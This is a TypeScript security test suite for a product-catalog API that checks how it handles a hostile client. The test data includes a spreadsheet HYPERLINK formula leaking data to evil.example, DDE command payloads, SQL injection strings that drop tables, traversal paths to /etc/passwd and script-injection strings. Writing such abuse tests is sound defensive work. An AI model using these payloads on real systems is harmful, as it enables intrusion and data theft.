// Abuse of the HTTP API and the catalog by a hostile client: missing and wrong keys, oversize
// bodies, path traversal in every file name and path, injection into the store's SQL
// predicates and full-text queries, spreadsheet formulas in titles, cross-origin requests,
// and error bodies that must not leak stack traces or server paths. Runs over a real tiny
// model and a real LanceDB catalog in a temp dir (app.inject, no sockets).
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { ingest } from '../../src/ingest/ingest.ts';
import { openCatalog } from '../../src/catalog/open.ts';
import { sqlString } from '../../src/catalog/sql.ts';
import { GroknetError } from '../../src/errors.ts';
import type { Analyzer } from '../../src/model/types.ts';
import { searchText } from '../../src/search/index.ts';
import { buildApp, type App } from '../../src/server/app.ts';
import { keyMatches } from '../../src/server/auth.ts';
import { STORED_NAME } from '../../src/server/image-store.ts';
import { solidImage, TINY_COLOURS } from '../helpers/tiny-model.ts';
import { assertError, assertNothingInternal, multipart } from '../server/helpers/http.ts';
import { openTestShop, TEST_KEY, type TestShop } from '../server/helpers/server.ts';
import { createShopModel } from '../server/helpers/shop-model.ts';

let root: string;
let modelDir: string;
let shop: TestShop;
let app: App;
let red: Buffer;
let blue: Buffer;
const ids: Record<string, string> = {};
const auth = { authorization: `Bearer ${TEST_KEY}` };

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '=1+1',
  '<script>alert(document.cookie)</script>',
  '"quoted", with a comma\nand a newline',
];

before(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'groknet-abuse-'));
  modelDir = (await createShopModel()).dir;
  shop = await openTestShop(modelDir);
  app = await shop.app();
  red = await solidImage(TINY_COLOURS.red!);
  blue = await solidImage(TINY_COLOURS.blue!, 48, 'jpeg');
  for (const [name, image] of [['red', red], ['blue', blue]] as const) {
    const res = await publish(image, { title: `${name} tee`, price: '10', currency: 'EUR' });
    assert.equal(res.statusCode, 201, res.body);
    ids[name] = res.json().product.id;
  }
});
after(async () => {
  await shop?.close();
  await rm(root, { recursive: true, force: true });
  await rm(modelDir, { recursive: true, force: true });
});

async function publish(image: Buffer, fields: Record<string, string>, headers: Record<string, string> = auth, name = 'photo.png', on: App = app) {
  const body = await multipart(fields, [{ data: image, name }]);
  return on.inject({ method: 'POST', url: '/v1/products', payload: body.payload, headers: { ...body.headers, ...headers } });
}

const count = async () => (await shop.catalog.listProducts({ limit: 1000 })).length;

describe('write access', () => {
  test('publishing and deleting without a key, or with a wrong one, is 401; the catalog is unchanged', async () => {
    const before = await count();
    const wrong: Array<Record<string, string>> = [
      {},
      { authorization: 'Bearer' },
      { authorization: 'Bearer ' },
      { authorization: `Bearer ${TEST_KEY.slice(0, -1)}` },
      { authorization: `Bearer ${TEST_KEY}x` },
      { authorization: `Bearer ${TEST_KEY.toUpperCase()}` },
      { authorization: `Basic ${Buffer.from(`user:${TEST_KEY}`).toString('base64')}` },
      { authorization: `Bearer ${'k'.repeat(10_000)}` },
      { authorization: `Bearer ${TEST_KEY} extra` },
      { 'x-api-key': '' },
      { 'x-api-key': 'wrong' },
      { 'x-api-key': `${TEST_KEY}\u0000` },
    ];
    for (const headers of wrong) {
      const res = await publish(red, { title: 'intruder' }, headers);
      assertError(res, 401, 'unauthorized');
      assert.equal(res.headers['www-authenticate'], 'Bearer');
      assertError(await app.inject({ method: 'DELETE', url: `/v1/products/${ids.red}`, headers }), 401, 'unauthorized');
    }
    assert.equal(await count(), before);
    assert.ok(await shop.catalog.getProduct(ids.red!));
  });

  test('X-Forwarded-For does not reset the rate limit (the proxy is not trusted by default)', async () => {
    const limited = await shop.app({ rateLimitPerMinute: 2 });
    const statuses: number[] = [];
    for (let i = 0; i < 5; i++) statuses.push((await limited.inject({ url: '/v1/products/p_x', headers: { 'x-forwarded-for': `203.0.113.${i}` } })).statusCode);
    assert.deepEqual(statuses, [404, 404, 429, 429, 429]);
  });

  test('a server without a key refuses writes (403) unless anonymous writes are on', async () => {
    const keyless = await shop.app({ apiKey: undefined });
    assertError(await publish(red, { title: 'x' }, {}, 'a.png', keyless), 403, 'writes_disabled');
    assertError(await publish(red, { title: 'x' }, auth, 'a.png', keyless), 403, 'writes_disabled');
    assertError(await keyless.inject({ method: 'DELETE', url: `/v1/products/${ids.red}` }), 403, 'writes_disabled');
  });

  test('a valid key from a foreign or opaque browser origin is refused (403)', async () => {
    for (const origin of ['https://evil.example', 'null', 'not a url']) {
      assertError(await publish(red, { title: 'x' }, { ...auth, origin }), 403, 'forbidden');
      assertError(await app.inject({ method: 'DELETE', url: `/v1/products/${ids.red}`, headers: { ...auth, origin } }), 403, 'forbidden');
    }
  });

  test('the key compare is constant-time: SHA-256 digests through crypto.timingSafeEqual (code review)', async () => {
    const source = await readFile(new URL('../../src/server/auth.ts', import.meta.url), 'utf8');
    assert.match(source, /timingSafeEqual\(digest\(given\), digest\(expected\)\)/);
    assert.doesNotMatch(source, /given\s*===?\s*expected|expected\s*===?\s*given/);
    // Equal-length digests: no throw (and no early exit) whatever the lengths of the keys.
    assert.equal(keyMatches('a', 'b'.repeat(1000)), false);
    assert.equal(keyMatches('', TEST_KEY), false);
    assert.equal(keyMatches(TEST_KEY, TEST_KEY), true);
  });
});

describe('oversize bodies', () => {
  let small: App;
  const LIMIT = 64 * 1024;
  before(async () => {
    small = await shop.app({ limits: { maxInputBytes: LIMIT, maxPixels: 40_000_000, maxDimension: 20_000 } });
  });

  test('an image, a multipart file or a JSON body over the limit is 413 too_large; a form field over it is 400 naming it', async () => {
    const big = Buffer.concat([red, Buffer.alloc(LIMIT + 1 - red.length + 10)]);
    assertError(await small.inject({ method: 'POST', url: '/v1/analyze', payload: big, headers: { 'content-type': 'image/png' } }), 413, 'too_large');
    const form = await multipart({}, [{ data: big }]);
    assertError(await small.inject({ method: 'POST', url: '/v1/analyze', payload: form.payload, headers: form.headers }), 413, 'too_large');
    const search = JSON.stringify({ image: Buffer.alloc(LIMIT * 2).toString('base64') });
    assertError(await small.inject({ method: 'POST', url: '/v1/search', payload: search, headers: { 'content-type': 'application/json' } }), 413, 'too_large');
    assertError(await app.inject({ method: 'POST', url: '/v1/search', payload: JSON.stringify({ text: 'x'.repeat(30 * 1024 * 1024) }), headers: { 'content-type': 'application/json' } }), 413, 'too_large');
    assert.match(assertError(await publish(red, { title: 'x', description: 'd'.repeat(70 * 1024) }), 400, 'invalid_argument').message, /form\.description/);
  });

  test('too many files or fields is 400 naming the limit, and nothing is stored', async () => {
    const before = await count();
    const two = await multipart({}, [{ data: red }, { data: blue, type: 'image/jpeg' }]);
    assertError(await app.inject({ method: 'POST', url: '/v1/analyze', payload: two.payload, headers: two.headers }), 400, 'invalid_argument');
    const nine = await multipart({ title: 'many' }, Array.from({ length: 9 }, () => ({ data: red })));
    assertError(await app.inject({ method: 'POST', url: '/v1/products', payload: nine.payload, headers: { ...nine.headers, ...auth } }), 400, 'invalid_argument');
    const fields = Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`f${i}`, 'x']));
    assertError(await publish(red, { title: 'fields', ...fields }), 400, 'invalid_argument');
    assert.equal(await count(), before);
  });

  test('a body larger than its Content-Length or a lying Content-Length is refused, not trusted', async () => {
    const res = await app.inject({ method: 'POST', url: '/v1/analyze', payload: red, headers: { 'content-type': 'image/png', 'content-length': '10' } });
    assert.ok(res.statusCode >= 400 && res.statusCode < 500, `${res.statusCode} ${res.body}`);
    assertNothingInternal(res.body);
  });
});

describe('path traversal', () => {
  test('multipart file names never reach the disk: only <data>/images/<sha256>.<ext> is written', async () => {
    const names = ['../../../../../tmp/groknet-evil.png', '..\\..\\..\\groknet-evil.png', '/etc/passwd', '%2e%2e%2fgroknet-evil.png', 'a\u0000b.png', 'C:\\Windows\\groknet-evil.png', '....//....//groknet-evil.png', '.htaccess'];
    const parent = path.dirname(shop.dataDir);
    const siblingsBefore = (await readdir(parent)).length;
    for (const [i, name] of names.entries()) {
      const image = await solidImage([10 + i, 200, 30]);
      const res = await publish(image, { title: `traversal ${i}` }, auth, name);
      assert.equal(res.statusCode, 201, res.body);
      const url: string = res.json().product.images[0].url;
      assert.match(url, /^\/v1\/images\/[0-9a-f]{64}\.png$/);
      await app.inject({ method: 'DELETE', url: `/v1/products/${res.json().product.id}`, headers: auth });
    }
    for (const name of await readdir(path.join(shop.dataDir, 'images'))) assert.match(name, STORED_NAME);
    assert.equal((await readdir(parent)).length, siblingsBefore, 'nothing new next to the data dir');
    for (const target of ['/tmp/groknet-evil.png', path.join(parent, 'groknet-evil.png'), path.join(shop.dataDir, 'groknet-evil.png')]) assert.equal(existsSync(target), false, target);
  });

  test('/v1/images serves generated names only: encoded dots, slashes and backslashes are 404', async () => {
    const urls = [
      '/v1/images/..%2F..%2Fcatalog.json', '/v1/images/..%2f..%2f..%2f..%2fetc%2fpasswd', '/v1/images/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '/v1/images/..%5C..%5Cwin.ini', '/v1/images/%252e%252e%252fetc%252fpasswd', '/v1/images/..', '/v1/images/.',
      `/v1/images/${'a'.repeat(64)}.png%00.txt`, `/v1/images/${'a'.repeat(64)}.png/..`, '/v1/images/../../etc/passwd',
    ];
    for (const url of urls) {
      const res = await app.inject(url);
      assert.ok([400, 404].includes(res.statusCode), `${url}: ${res.statusCode}`);
      assert.doesNotMatch(res.body, /root:|\[extensions\]|"table"/, url);
      assertNothingInternal(res.body);
    }
    assertError(await app.inject(`/v1/images/${'a'.repeat(200)}`), 400, 'invalid_argument');
  });

  test('the web page serves its own files only: no way up to the repository', async () => {
    const withWeb = await shop.app({ web: true, webCacheDir: path.join(root, 'web-cache') });
    assert.equal((await withWeb.inject('/')).statusCode, 200);
    for (const url of ['/../package.json', '/..%2Fpackage.json', '/%2e%2e%2fpackage.json', '/%2e%2e/%2e%2e/package.json', '/app.js/..%2F..%2Fpackage.json', '/styles.css%2F..%2F..%2Fpackage.json', '/..%5Cpackage.json']) {
      const res = await withWeb.inject(url);
      assert.notEqual(res.statusCode, 200, url);
      assert.doesNotMatch(res.body, /"dependencies"|"name": "groknet"/, url);
      assertNothingInternal(res.body);
    }
  });

  test('product ids are opaque: a path in an id reads nothing from the disk', async () => {
    for (const id of ['..%2F..%2F..%2Fetc%2Fpasswd', '%2Fetc%2Fpasswd', '..', 'images%2F..%2Fcatalog.json']) {
      const res = await app.inject(`/v1/products/${id}`);
      assert.ok([400, 404].includes(res.statusCode), `${id}: ${res.statusCode}`);
      assert.doesNotMatch(res.body, /root:|"table"/);
      assertNothingInternal(res.body);
    }
  });

  test('listing image paths outside the source folder are refused; nothing outside the data dir is written', async () => {
    const base = path.join(root, 'listings');
    const source = path.join(base, 'shop');
    await mkdir(path.join(source, 'sub'), { recursive: true });
    await writeFile(path.join(base, 'outside.png'), red);
    await writeFile(path.join(source, 'inside.png'), blue);
    await symlink(path.join(base, 'outside.png'), path.join(source, 'link.png'));
    await symlink(base, path.join(source, 'sub', 'up'));
    const bad = ['../outside.png', 'sub/../../outside.png', path.join(base, 'outside.png'), '/etc/passwd', 'link.png', 'sub/up/outside.png', 'file:///etc/passwd', 'http://127.0.0.1:9/x.png', '..\\outside.png', '%2e%2e/outside.png'];
    const lines = bad.map((image, i) => JSON.stringify({ id: `bad-${i}`, title: 'bad', image }));
    lines.push(JSON.stringify({ id: 'good', title: 'good', image: 'inside.png' }));
    await writeFile(path.join(source, 'shop.jsonl'), lines.join('\n'));
    await writeFile(path.join(source, 'shop.csv'), `id,title,image\n${bad.map((image, i) => `csv-${i},bad,"${image}"`).join('\n')}\ncsv-good,good,inside.png\n`);
    const analyzer = shop.analyzer as Analyzer;
    const data = path.join(root, 'listings-data');
    const catalog = await openCatalog(data, { embeddingDim: analyzer.embeddingDim });
    try {
      for (const file of ['shop.jsonl', 'shop.csv']) {
        const summary = await ingest(path.join(source, file), { catalog, analyzer });
        assert.equal(summary.indexed, 1, JSON.stringify(summary));
        assert.equal(summary.failed.length, bad.length, JSON.stringify(summary.failed));
        for (const f of summary.failed) {
          assert.ok(['path_outside_root', 'invalid_argument', 'file_not_found'].includes(f.code), `${f.item}: ${f.code} ${f.message}`);
        }
        // The escaping paths that exist must be refused as such, not merely "not found".
        const refused = summary.failed.filter((f) => f.code === 'path_outside_root' || f.code === 'invalid_argument').length;
        assert.ok(refused >= 8, JSON.stringify(summary.failed));
      }
      const stored = await catalog.listProducts({ limit: 100 });
      assert.deepEqual(stored.map((p) => p.id).sort(), ['csv-good', 'good']);
      for (const p of stored) for (const image of p.images) assert.ok(image.path.startsWith(source + path.sep), image.path);
    } finally {
      await catalog.close();
    }
    assert.deepEqual((await readdir(base)).sort(), ['outside.png', 'shop'], 'nothing written beside the source');
    assert.deepEqual((await readdir(source)).sort(), ['inside.png', 'link.png', 'shop.csv', 'shop.jsonl', 'sub']);
  });
});

describe('injection into the store', () => {
  const search = (body: unknown) => app.inject({ method: 'POST', url: '/v1/search', payload: JSON.stringify(body), headers: { 'content-type': 'application/json' } });
  const hostile = ["EUR' OR '1'='1", "'; DROP TABLE images_1; --", "x' OR 1=1 --", '1=1 OR 1=1', "EUR') OR ('a'='a", "\\' OR 1=1 --", 'EUR" OR "1"="1', "'||(SELECT 1)||'"];

  test('filter values with quotes and SQL are matched literally (no results), never executed', async () => {
    const before = await count();
    for (const value of hostile) {
      for (const filters of [{ currency: value }, { id: value }, { currency: [value, 'USD'] }, { currency: { eq: value } }, { colour: value }]) {
        const res = await search({ text: 'tee', filters });
        assert.equal(res.statusCode, 200, `${JSON.stringify(filters)}: ${res.body}`);
        assert.deepEqual(res.json().results.filter((r: { match: string }) => r.match === 'filter'), [], JSON.stringify(filters));
        const textMatches = res.json().results as Array<{ id: string }>;
        assert.ok(textMatches.every((r) => Object.values(ids).includes(r.id)));
      }
      const onlyFilter = await search({ filters: { currency: value } });
      assert.equal(onlyFilter.statusCode, 200, onlyFilter.body);
      assert.deepEqual(onlyFilter.json().results, [], `filter-only ${value}`);
    }
    assert.equal(await count(), before, 'no row was deleted or added');
  });

  test('filter names, ranges and sizes are validated: 400, never a predicate', async () => {
    for (const filters of [{ 'price) OR (1=1': 1 }, { "currency = 'EUR' OR 1": 'x' }, { price: { gte: '0 OR 1=1' } }, { price: "1 OR 1=1" }, { currency: { in: [] } }, { currency: 'x'.repeat(10_000) }, { price: { gte: Number.NaN } }]) {
      const res = await search({ text: 'tee', filters });
      assert.ok([400].includes(res.statusCode), `${JSON.stringify(filters).slice(0, 80)}: ${res.statusCode} ${res.body.slice(0, 200)}`);
      assertNothingInternal(res.body);
    }
    assertError(await search({ text: 'x'.repeat(10_000) }), 400, 'invalid_argument');
    assertError(await search({ productId: 'x'.repeat(10_000) }), 400, 'invalid_argument');
  });

  test('full-text queries with operators, quotes and SQL are answered, never 5xx', async () => {
    const before = await count();
    for (const text of [...hostile, 'title:red AND NOT blue', '"unclosed', '*', '(((', 'tee OR 1=1', '%', '_', '\\', "tee'", 'tee; DELETE FROM images_1']) {
      const res = await search({ text });
      assert.ok(res.statusCode === 200 || res.statusCode === 400, `${text}: ${res.statusCode} ${res.body}`);
      assertNothingInternal(res.body);
    }
    assert.equal(await count(), before);
  });

  test('ids with quotes in GET, DELETE and "more like this" touch nothing', async () => {
    const before = await count();
    for (const id of ["x' OR '1'='1", "' OR ''='", `${ids.red}' OR '1'='1`, "p_x'; DROP TABLE images_1; --"]) {
      const encoded = encodeURIComponent(id);
      assertError(await app.inject(`/v1/products/${encoded}`), 404, 'not_found');
      assertError(await app.inject({ method: 'DELETE', url: `/v1/products/${encoded}`, headers: auth }), 404, 'not_found');
      assertError(await app.inject(`/v1/products/${encoded}/similar`), 404, 'not_found');
      assertError(await search({ productId: id }), 404, 'not_found');
    }
    assert.equal(await count(), before, 'DELETE with an injected id removed nothing');
    assert.ok(await shop.catalog.getProduct(ids.red!));
    assert.ok(await shop.catalog.getProduct(ids.blue!));
  });

  test('the library quotes every value: the same attempts against the catalog directly', async () => {
    const before = await count();
    for (const value of hostile) {
      assert.equal(await shop.catalog.getProduct(value), undefined);
      assert.equal(await shop.catalog.deleteProduct(value), false);
      const answer = await searchText(shop.catalog, 'tee', { filters: { currency: { eq: value } }, includeFilterOnly: true });
      assert.ok(answer.results.every((r) => r.match !== 'filter'));
    }
    assert.throws(() => sqlString('a\u0000b'), (e: unknown) => e instanceof GroknetError && e.code === 'query_invalid');
    assert.equal(await count(), before);
  });
});

describe('spreadsheet formulas in titles', () => {
  test('groknet exports no CSV: no route answers text/csv', async () => {
    const doc = (await app.inject('/openapi.json')).json() as { paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>> };
    const types = Object.values(doc.paths).flatMap((ops) => Object.values(ops).flatMap((op) => Object.values(op.responses ?? {}).flatMap((r) => Object.keys(r.content ?? {}))));
    assert.ok(types.length > 0);
    assert.ok(types.every((t) => !/csv|excel|spreadsheet/i.test(t)), types.join(', '));
  });

  test('formula titles are stored verbatim and returned as escaped JSON strings', async () => {
    for (const [i, title] of FORMULAS.entries()) {
      const res = await publish(await solidImage([200, 20 + i, 20]), { title, description: title });
      assert.equal(res.statusCode, 201, res.body);
      assert.match(String(res.headers['content-type']), /^application\/json/);
      const id = res.json().product.id as string;
      const read = await app.inject(`/v1/products/${id}`);
      assert.match(String(read.headers['content-type']), /^application\/json/);
      // Verbatim: publishing trims surrounding spaces only; form encoding sends line breaks as CRLF.
      const sent = title.trim().replace(/\r?\n/g, '\r\n');
      assert.equal(read.json().title, sent);
      assert.equal(read.json().description, sent);
      assert.ok(!read.body.includes('\n'), 'control characters are escaped in the JSON');
      const stored = await shop.catalog.getProduct(id);
      assert.equal(stored!.title, sent);
      await app.inject({ method: 'DELETE', url: `/v1/products/${id}`, headers: auth });
    }
  });

  test('formula titles from a CSV listing are stored verbatim too', async () => {
    const source = path.join(root, 'formulas');
    await mkdir(source, { recursive: true });
    await writeFile(path.join(source, 'p.png'), red);
    const csv = ['id,title,image', ...FORMULAS.map((t, i) => `f${i},"${t.replace(/"/g, '""')}",p.png`)].join('\n');
    await writeFile(path.join(source, 'f.csv'), csv);
    const analyzer = shop.analyzer as Analyzer;
    const catalog = await openCatalog(path.join(root, 'formula-data'), { embeddingDim: analyzer.embeddingDim });
    try {
      const summary = await ingest(path.join(source, 'f.csv'), { catalog, analyzer });
      assert.equal(summary.indexed, FORMULAS.length, JSON.stringify(summary.failed));
      for (const [i, title] of FORMULAS.entries()) assert.equal((await catalog.getProduct(`f${i}`))!.title, title);
    } finally {
      await catalog.close();
    }
  });
});

describe('CORS and error bodies', () => {
  test('CORS is closed by default: no Access-Control-Allow-Origin for any origin', async () => {
    for (const origin of ['https://evil.example', 'null', 'http://127.0.0.1:1']) {
      const preflight = await app.inject({ method: 'OPTIONS', url: '/v1/search', headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type, authorization' } });
      assert.equal(preflight.headers['access-control-allow-origin'], undefined);
      assert.equal(preflight.headers['access-control-allow-credentials'], undefined);
      for (const res of [await app.inject({ url: '/healthz', headers: { origin } }), await search(origin)]) {
        assert.equal(res.headers['access-control-allow-origin'], undefined);
      }
    }
    async function search(origin: string) {
      return app.inject({ method: 'POST', url: '/v1/search', payload: JSON.stringify({ text: 'tee' }), headers: { origin, 'content-type': 'application/json' } });
    }
  });

  test('error bodies carry a code and a message, never a stack trace or a server path', async () => {
    const requests = [
      { method: 'POST' as const, url: '/v1/search', payload: '{"text": ', headers: { 'content-type': 'application/json' } },
      { method: 'POST' as const, url: '/v1/search', payload: '{"__proto__": {"x": 1}, "text": "a"}', headers: { 'content-type': 'application/json' } },
      { method: 'POST' as const, url: '/v1/analyze', payload: 'garbage', headers: { 'content-type': 'multipart/form-data; boundary=x' } },
      { method: 'POST' as const, url: '/v1/analyze', payload: 'text', headers: { 'content-type': 'text/plain' } },
      { method: 'POST' as const, url: '/v1/analyze', payload: Buffer.from('<svg onload=alert(1)>'), headers: { 'content-type': 'image/svg+xml' } },
      { method: 'GET' as const, url: '/v1/products/%E0%A4%A' },
      { method: 'GET' as const, url: `/${'a'.repeat(5000)}` },
      { method: 'GET' as const, url: '/v1/products/p_1?x[__proto__][y]=1' },
      { method: 'PATCH' as const, url: '/v1/products/p_1' },
    ];
    for (const request of requests) {
      const res = await app.inject(request);
      assert.ok(res.statusCode >= 400 && res.statusCode < 500, `${request.url}: ${res.statusCode} ${res.body}`);
      assert.deepEqual(Object.keys(res.json()), ['error']);
      assertNothingInternal(res.body);
    }
  });

  test('a malformed or cut-short multipart body is 400 invalid_argument, not a 500 (regression)', async () => {
    const cut = '--x\r\nContent-Disposition: form-data; name="image"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG';
    const bodies: Array<[string, string]> = [
      ['garbage', 'multipart/form-data; boundary=x'],
      [cut, 'multipart/form-data; boundary=x'],
      ['garbage', 'multipart/form-data'],
      ['--x\r\nContent-Disposition: form-data; name="title"\r\n\r\nunfinished', 'multipart/form-data; boundary=x'],
    ];
    for (const [payload, type] of bodies) {
      assertError(await app.inject({ method: 'POST', url: '/v1/analyze', payload, headers: { 'content-type': type } }), 400, 'invalid_argument');
      assertError(await app.inject({ method: 'POST', url: '/v1/products', payload, headers: { 'content-type': type, ...auth } }), 400, 'invalid_argument');
    }
  });

  test('an internal failure is a 500 with the generic message: the cause stays in the server log', async () => {
    const secret = '/work/secret/model/path.onnx';
    const failing: Analyzer = {
      modelVersion: 'failing@1',
      exactMatchThreshold: 0.9,
      embeddingDim: 16,
      analyzeBuffers: async () => {
        const error = new Error(`ENOENT: no such file ${secret}`);
        error.stack = `Error: boom\n    at Object.<anonymous> (${secret}:1:1)`;
        throw error;
      },
      close: async () => undefined,
    };
    const broken = await buildApp({ analyzer: failing, config: { dataDir: path.join(root, 'broken-data'), apiKey: TEST_KEY, rateLimitPerMinute: 0, web: false } });
    try {
      const res = await broken.inject({ method: 'POST', url: '/v1/analyze', payload: red, headers: { 'content-type': 'image/png' } });
      const error = assertError(res, 500, 'internal');
      assert.equal(error.message, 'Something went wrong inside groknet');
      assert.ok(!res.body.includes('secret'));
    } finally {
      await broken.close();
    }
  });
});
